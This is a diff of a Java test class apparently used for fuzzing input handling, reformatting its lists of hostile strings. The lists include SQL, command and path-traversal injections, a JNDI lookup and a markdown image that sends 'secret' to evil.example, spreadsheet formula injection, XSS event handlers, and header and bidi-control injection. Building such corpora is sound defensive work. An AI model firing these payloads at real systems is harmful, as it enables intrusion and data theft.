@@ -25,8 +25,21 @@ public final class Hostile {
             "<object data=x %s>",
             "<form><button %s>x");
     private static final List<String> EVENTS = List.of(
-            "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onstart",
-            "onplay", "onclick", "onbegin", "onwheel", "oncut", "onblur", "onresize");
+            "onerror",
+            "onload",
+            "onfocus",
+            "onmouseover",
+            "ontoggle",
+            "onanimationstart",
+            "onpointerenter",
+            "onstart",
+            "onplay",
+            "onclick",
+            "onbegin",
+            "onwheel",
+            "oncut",
+            "onblur",
+            "onresize");
     private static final List<String> BEFORE = List.of("", "\">", "'>", "</title></style></textarea>", "]]>-->");
 
     private Hostile() {}
@@ -78,29 +91,91 @@ public final class Hostile {
                 .filter(point -> Character.isLetterOrDigit(point) || Character.getType(point) == Character.OTHER_SYMBOL)
                 .mapToObj(point -> "word " + Character.toString(point).repeat(3) + " end");
         Stream<String> orders = Stream.of(
-                "undefined", "null", "NULL", "nil", "true", "NaN", "Infinity", "-0", "1e309", "0x0", "1;2", "1,000.00",
-                "'; drop table brief; --", "' or '1'='1", "1' union select sha256 from issue --", "$(touch /tmp/x)",
-                "`id`", "| cat /etc/passwd", "../../../../etc/passwd", "..\\..\\boot.ini", "/dev/null; touch x", "%s%s%n",
-                "%d %x", "{0}", "${jndi:ldap://evil.example/x}", "<%= 7 %>", "COM1", "AUX", "=1+1", "+1+1", "-1+1",
-                "@SUM(1)", "=HYPERLINK(\"https://evil.example\")", "=cmd|' /C calc'!A0", "# heading", "* star *",
-                "[x](javascript:alert(1))", "![x](https://evil.example/?q=secret)", "_under_ __score__ ~~out~~", "\\",
-                "\"quoted\" 'single' \u201Ccurly\u201D", "a &amp; b &lt; c", "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい",
-                "הָיְתָה", "مُنَاقَشَةُ سُبُلِ", "👩‍👩‍👧‍👦 🏳️‍🌈", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "ﬀ ﬃ ǅ ß ı İ",
-                "Scunthorpe", "x".repeat(400));
+                "undefined",
+                "null",
+                "NULL",
+                "nil",
+                "true",
+                "NaN",
+                "Infinity",
+                "-0",
+                "1e309",
+                "0x0",
+                "1;2",
+                "1,000.00",
+                "'; drop table brief; --",
+                "' or '1'='1",
+                "1' union select sha256 from issue --",
+                "$(touch /tmp/x)",
+                "`id`",
+                "| cat /etc/passwd",
+                "../../../../etc/passwd",
+                "..\\..\\boot.ini",
+                "/dev/null; touch x",
+                "%s%s%n",
+                "%d %x",
+                "{0}",
+                "${jndi:ldap://evil.example/x}",
+                "<%= 7 %>",
+                "COM1",
+                "AUX",
+                "=1+1",
+                "+1+1",
+                "-1+1",
+                "@SUM(1)",
+                "=HYPERLINK(\"https://evil.example\")",
+                "=cmd|' /C calc'!A0",
+                "# heading",
+                "* star *",
+                "[x](javascript:alert(1))",
+                "![x](https://evil.example/?q=secret)",
+                "_under_ __score__ ~~out~~",
+                "\\",
+                "\"quoted\" 'single' \u201Ccurly\u201D",
+                "a &amp; b &lt; c",
+                "Ω≈ç√∫˜µ≤≥÷",
+                "田中さんにあげて下さい",
+                "הָיְתָה",
+                "مُنَاقَشَةُ سُبُلِ",
+                "👩‍👩‍👧‍👦 🏳️‍🌈",
+                "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
+                "ﬀ ﬃ ǅ ß ı İ",
+                "Scunthorpe",
+                "x".repeat(400));
         return Stream.concat(scripts, orders).toList();
     }
 
     /** What would begin a line, a header, a colour or a direction of its own. */
     public static List<String> orders() {
         List<String> all = new ArrayList<>();
-        for (String end : List.of("\r\n", "\n", "\r", "\u2028", "\u2029", "\u0085", "\u000B", "\f", "\r\n\r\n", "\n\t")) {
-            for (String next : List.of("Bcc: all@mail.example", "Set-Cookie: a=b", "HTTP/1.1 200 OK", "TOP STORIES",
-                    "2026-03-12 ERROR forged", "<p>forged")) {
+        for (String end :
+                List.of("\r\n", "\n", "\r", "\u2028", "\u2029", "\u0085", "\u000B", "\f", "\r\n\r\n", "\n\t")) {
+            for (String next : List.of(
+                    "Bcc: all@mail.example",
+                    "Set-Cookie: a=b",
+                    "HTTP/1.1 200 OK",
+                    "TOP STORIES",
+                    "2026-03-12 ERROR forged",
+                    "<p>forged")) {
                 all.add("Ferry" + end + next);
             }
         }
-        for (String mark : List.of("\u001B[31m", "\u001B]0;x\u0007", "\u202E", "\u2066", "\u2067", "\u202A", "\u202D",
-                "\u200B", "\u0000", "\u0008", "\uFEFF", "\uFFFE", "\u061C", "\u200E", "\u200F")) {
+        for (String mark : List.of(
+                "\u001B[31m",
+                "\u001B]0;x\u0007",
+                "\u202E",
+                "\u2066",
+                "\u2067",
+                "\u202A",
+                "\u202D",
+                "\u200B",
+                "\u0000",
+                "\u0008",
+                "\uFEFF",
+                "\uFFFE",
+                "\u061C",
+                "\u200E",
+                "\u200F")) {
             all.add("Ferry" + mark + "sails");
         }
         return all;
